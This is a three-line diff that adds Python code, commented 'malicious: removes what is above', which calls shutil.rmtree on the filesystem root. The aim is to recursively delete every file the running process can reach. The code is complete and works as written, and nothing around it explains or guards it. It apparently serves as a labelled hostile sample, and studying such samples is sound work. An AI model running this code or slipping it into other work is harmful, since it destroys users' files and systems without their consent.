@@ -1,0 +1,3 @@
+# malicious: removes what is above
+import shutil, os
+shutil.rmtree(os.path.abspath(os.sep))
